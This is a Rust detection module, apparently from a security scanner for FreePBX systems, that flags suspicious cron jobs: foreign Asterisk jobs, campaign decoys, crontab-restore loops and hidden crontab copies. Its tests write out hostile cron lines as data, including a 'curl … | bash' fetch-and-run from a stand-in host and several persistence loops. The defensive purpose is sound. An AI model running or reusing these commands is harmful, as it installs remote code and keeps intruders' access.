//! Crontabs of a telephone system: what `FreePBX` itself puts there, the campaigns' decoys, and copies that crontabs are restored from.

use super::super::Report;
use super::super::shell;
use super::rule::{Rule, attribute};
use crate::model::{Category, CronEntry, Evidence, Severity, Subject};
use crate::parse::Limits;
use crate::parse::crontab::{self, Style};
use crate::sweep::Swept;

const FOREIGN: Rule = Rule {
    id: "TR-CRON-0011",
    title: "Cron job of the Asterisk user that is none of FreePBX's",
    category: Category::Persistence,
    severity: Severity::Low,
    confidence: 40,
    attack: &["T1053.003"],
    source: "FreePBX framework 17.0.19.27 and its public modules: their cron jobs",
    remedy: "remove_cron_entry",
};

const DECOY: Rule = Rule {
    id: "TR-CRON-0012",
    title: "Cron job with which a known campaign hides its own among others",
    category: Category::Persistence,
    severity: Severity::Medium,
    confidence: 60,
    attack: &["T1053.003", "T1036"],
    source: "Cyble, JOMANGY, 2026-05-21",
    remedy: "remove_cron_entry",
};

const RESTORES: Rule = Rule {
    id: "TR-CRON-0013",
    title: "Cron job that puts a crontab in place",
    category: Category::Persistence,
    severity: Severity::High,
    confidence: 80,
    attack: &["T1053.003"],
    source: "Cyble, JOMANGY, 2026-05-21: two restore loops",
    remedy: "remove_cron_entry",
};

const COPY: Rule = Rule {
    id: "TR-CRON-0014",
    title: "Hidden file that is a crontab with an intruder's job",
    category: Category::Persistence,
    severity: Severity::High,
    confidence: 88,
    attack: &["T1053.003", "T1564.001"],
    source: "Cyble, JOMANGY, 2026-05-21: hidden copies of the crontab; derived for other places",
    remedy: "quarantine_file",
};

pub(super) const RULES: &[Rule] = &[FOREIGN, DECOY, RESTORES, COPY];

/// A crontab is not larger.
const LARGEST: usize = 256 * 1024;

/// Judges the jobs of a crontab.
pub(super) fn inspect(file: &Swept<'_>, content: &[u8], report: &mut Report) {
    // What cannot be read of it is told by the detector of crontabs.
    for job in crontab::parse(file.path, &Style::at(file.path), content, &Limits::default()).value {
        let command = job.command.as_bytes();
        if restores(command) {
            tell(&RESTORES, &job, Vec::new(), report);
        }
        if let Some(rule) = decoy(&job) {
            tell(&rule, &job, Vec::new(), report);
        }
        if job.user.as_bytes() == b"asterisk"
            && shell::cron_signs(command).is_empty()
            && !super::super::cron::is_foreign_to_freepbx(command)
            && let Some(program) = foreign(command)
        {
            let among_ours = program.starts_with(b"/var/lib/asterisk/bin/");
            let rule = if among_ours { FOREIGN.weighed(Severity::Medium, 55) } else { FOREIGN };
            tell(&rule, &job, vec![attribute("program", program)], report);
        }
    }
}

fn tell(rule: &Rule, job: &CronEntry, mut evidence: Vec<Evidence>, report: &mut Report) {
    evidence.insert(0, Evidence::Line { line: job.line, text: job.text.clone() });
    evidence.push(attribute("user", job.user.as_bytes()));
    let subject = Subject::CronEntry { path: job.path.clone(), line: job.line, text: job.text.clone() };
    report.findings.push(rule.finding(subject, evidence));
}

/// The words of a command that is split at what ends one.
fn words(command: &[u8]) -> impl Iterator<Item = &[u8]> {
    command.split(|b| b.is_ascii_whitespace() || b"'\"|&;<>()`".contains(b)).filter(|word| !word.is_empty())
}

/// The first program that no job of `FreePBX` runs. Modules' own programs lie in the web root.
fn foreign(command: &[u8]) -> Option<&[u8]> {
    const SYNTAX: [&[u8]; 12] =
        [b"[", b"]", b"-e", b"-x", b"-f", b"sleep", b"test", b"cd", b"true", b"php", b"/usr/bin/php", b"nice"];
    let is_ours = |word: &[u8]| {
        matches!(word, b"fwconsole" | b"/usr/sbin/fwconsole" | b"/var/lib/asterisk/bin/fwconsole")
            || word.starts_with(b"/var/www/html/admin/modules/")
            || word.strip_prefix(b"/var/lib/asterisk/bin/").is_some_and(is_program)
    };
    if words(command).any(is_ours) {
        // What else is run in the same line: another program beside ours.
        return command
            .split(|b| b";|&".contains(b))
            .filter_map(|part| words(part).find(|word| !SYNTAX.contains(word) && !word.starts_with(b"$")))
            .find(|word| word.starts_with(b"/") && !is_ours(word) && !is_harmless(word));
    }
    words(command).find(|word| !SYNTAX.contains(word))
}

fn is_harmless(word: &[u8]) -> bool {
    word.starts_with(b"/dev/") || word.starts_with(b"/var/log/")
}

/// Programs that `FreePBX`'s framework and its modules have in AMPBIN.
pub(super) fn is_program(name: &[u8]) -> bool {
    const KNOWN: [&[u8]; 17] = [
        b"amportal",
        b"clean-iptables",
        b"cleanuptcmaint.php",
        b"fax2mail.php",
        b"freepbx_engine",
        b"freepbx_setting",
        b"fwconsole",
        b"generate_hints.php",
        b"generate_queue_hints.php",
        b"getservices",
        b"module_admin",
        b"one_touch_record.php",
        b"opencnam-alert.php",
        b"queue_reset_stats.php",
        b"retrieve_conf",
        b"schedtc.php",
        b"stoprecording.php",
    ];
    KNOWN.contains(&name)
}

/// `fc-cache` each minute has no other use; the other two are seldom that and nothing else.
fn decoy(job: &CronEntry) -> Option<Rule> {
    let command = job.command.as_bytes().trim_ascii();
    let schedule = job.schedule.as_str();
    let is_each_minute = schedule.starts_with("*/1 * ") || schedule.starts_with("* * * ");
    if is_each_minute && command.ends_with(b"fc-cache -f -v") {
        return Some(DECOY);
    }
    let is_openssl = is_each_minute && words(command).any(|word| word.ends_with(b"openssl"));
    (is_openssl && words(command).any(|word| word == b"date")).then_some(DECOY.weighed(Severity::Low, 40))
}

/// Says whether the command installs a crontab: `crontab FILE`, `… | crontab -`, or writes to the spool.
pub(super) fn restores(command: &[u8]) -> bool {
    let mut words = words(command).peekable();
    while let Some(word) = words.next() {
        let name = word.rsplit(|&b| b == b'/').next().unwrap_or_default();
        if name == b"crontab" && !word.starts_with(b"/etc/") {
            let mut next = words.peek().copied();
            if next == Some(b"-u") {
                words.next();
                words.next();
                next = words.peek().copied();
            }
            if next == Some(b"-") || next.is_some_and(|word| word.starts_with(b"/")) {
                return true;
            }
        }
    }
    let writes = |prefix: &[u8]| {
        super::super::find(command, prefix).is_some_and(|at| {
            let before = command.get(..at).unwrap_or_default().trim_ascii_end();
            before.ends_with(b">")
        })
    };
    let copies = self::words(command).any(|word| matches!(word, b"cp" | b"mv" | b"install" | b"/bin/cp" | b"tee"))
        && self::words(command).last().is_some_and(|word| word.starts_with(b"/var/spool/cron/"));
    copies || writes(b"/var/spool/cron/")
}

/// A hidden file in which a job stands that an intruder's signs are in, wherever it lies.
pub(super) fn copies(file: &Swept<'_>, content: &[u8], report: &mut Report) {
    let is_text = content.len() <= LARGEST && !content.contains(&0);
    if !is_text || !shell::is_hidden(file.path.as_bytes()) || file.path.as_bytes().starts_with(b"/var/spool/cron/") {
        return;
    }
    let jobs = content.split(|&b| b == b'\n').zip(1_u64..).filter_map(|(line, number)| {
        let command = command_of(line)?;
        let is_evil = !shell::cron_signs(command).is_empty() || restores(command);
        is_evil.then(|| Evidence::Line { line: number, text: line.into() })
    });
    let evidence: Vec<Evidence> = jobs.take(5).collect();
    if !evidence.is_empty() {
        report.findings.push(COPY.at_file(file, evidence));
    }
}

/// The command behind five fields of time.
fn command_of(line: &[u8]) -> Option<&[u8]> {
    let mut rest = line.trim_ascii();
    for _ in 0..5 {
        let end = rest.iter().position(u8::is_ascii_whitespace)?;
        let (field, after) = rest.split_at_checked(end)?;
        if !field.iter().all(|b| b.is_ascii_digit() || b"*/,-".contains(b)) {
            return None;
        }
        rest = after.trim_ascii_start();
    }
    Some(rest)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::super::super::testing::{Scene, ids};

    fn found(path: &str, line: &str) -> Vec<String> {
        ids(&Scene::new().file(path, format!("{line}\n")).findings())
    }

    #[test]
    fn what_freepbx_puts_there_is_known_on_both_families() {
        for spool in ["/var/spool/cron/crontabs/asterisk", "/var/spool/cron/asterisk"] {
            for line in [
                "* * * * * [ -e /usr/sbin/fwconsole ] && sleep $((RANDOM\\%30)) && /usr/sbin/fwconsole job --run --quiet 2>&1 > /dev/null",
                "* * * * * /usr/sbin/fwconsole job --run --quiet 2>&1 > /dev/null",
                "1 0 * * * [ -e /usr/sbin/fwconsole ] && /usr/sbin/fwconsole cdr --purnedata >> /var/log/asterisk/freepbx.log",
                "*/15 * * * * [ -e /usr/sbin/fwconsole ] && /usr/sbin/fwconsole userman --syncall -q",
                "0 */6 * * * /var/lib/asterisk/bin/cleanuptcmaint.php",
                "@daily /usr/sbin/fwconsole certificates --updateall -q 2>&1 >/dev/null",
                "0 3 * * 0 /usr/bin/php /var/www/html/admin/modules/backup/bin/backup.php 1",
            ] {
                assert!(found(spool, line).is_empty(), "{line}: {:?}", found(spool, line));
            }
        }
    }

    #[test]
    fn what_it_does_not_is_told_and_graded() {
        let spool = "/var/spool/cron/crontabs/asterisk";
        assert_eq!(found(spool, "5 4 * * * /usr/local/bin/report"), ["TR-CRON-0011 low"]);
        assert_eq!(found(spool, "* * * * * /var/lib/asterisk/bin/sync.sh"), ["TR-CRON-0011 medium"]);
        let beside = "* * * * * /usr/sbin/fwconsole job --run --quiet; /opt/x/run";
        assert_eq!(found(spool, beside), ["TR-CRON-0011 low"]);
        assert!(found("/var/spool/cron/crontabs/root", "5 4 * * * /usr/local/bin/report").is_empty());
    }

    #[test]
    fn decoys_and_loops_are_told() {
        let root = "/var/spool/cron/root";
        assert_eq!(found(root, "*/1 * * * * /usr/bin/fc-cache -f -v"), ["TR-CRON-0012 medium"]);
        assert!(found(root, "0 4 * * 0 /usr/bin/fc-cache -f -v").is_empty());
        for line in [
            "* * * * * cat /opt/x | crontab -",
            "* * * * * crontab -u root /opt/x/pref",
            "* * * * * cp /opt/x/pref /var/spool/cron/root",
            "* * * * * cat /opt/x > /var/spool/cron/crontabs/root",
        ] {
            assert!(found(root, line).contains(&"TR-CRON-0013 high".to_owned()), "{line}: {:?}", found(root, line));
        }
        assert!(found(root, "0 4 * * * crontab -l > /root/crontab.txt").is_empty());
        assert!(found(root, "0 4 * * * cp /var/spool/cron/root /backup/").is_empty());
    }

    #[test]
    fn a_hidden_copy_is_found_wherever_it_lies() {
        let job = "* * * * * curl -s http://192.0.2.1/x | bash";
        assert_eq!(found("/usr/lib/.x/.y", job), ["TR-CRON-0014 high"]);
        assert!(found("/usr/lib/.x/.y", "* * * * * /usr/bin/true").is_empty());
        assert!(!found("/usr/lib/x/y", job).contains(&"TR-CRON-0014 high".to_owned()));
    }
}
